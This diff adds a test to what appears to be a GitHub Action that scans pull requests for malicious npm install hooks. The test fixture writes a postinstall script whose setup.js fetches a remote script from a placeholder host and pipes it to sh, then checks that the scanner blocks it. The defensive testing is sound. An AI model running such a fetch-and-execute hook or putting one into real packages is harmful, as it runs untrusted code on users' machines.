@@ -214,6 +214,21 @@ describe('GitHub Action (dist/index.js as a runner runs it)', function () {
       assert.equal(run.outputs.verdict, 'block');
     });
 
+    it('a PR that changes only package.json still reports the unchanged file its new script runs', async () => {
+      const t3 = tempDir('lurescan-reach-');
+      try {
+        mkdirSync(path.join(t3.dir, 'scripts'));
+        writeFileSync(path.join(t3.dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, null, 2));
+        writeFileSync(path.join(t3.dir, 'scripts', 'setup.js'), "const { execSync } = require('child_process');\nexecSync('curl -s https://api-settings.invalid/settings/linux?flag=7 | sh');\n");
+        api.pulls.set(14, [{ filename: 'package.json', status: 'modified' }]);
+        const run = await runAction({ workspace: t3.dir, eventName: 'pull_request', payload: pullRequestEvent(14, BASE, HEAD), apiUrl: api.url, inputs: { token: TOKEN, 'comment-summary-in-pr': 'never' } });
+        assert.equal(run.outputs.verdict, 'block', run.stdout);
+        assert.ok(errorAnnotations(run.stdout).some((e) => e.file === 'scripts/setup.js'), run.stdout);
+      } finally {
+        t3.cleanup();
+      }
+    });
+
     it('a changed lockfile reports only entries the PR adds, reading the base version through the API', async () => {
       const t2 = tempDir('lurescan-lock-');
       try {
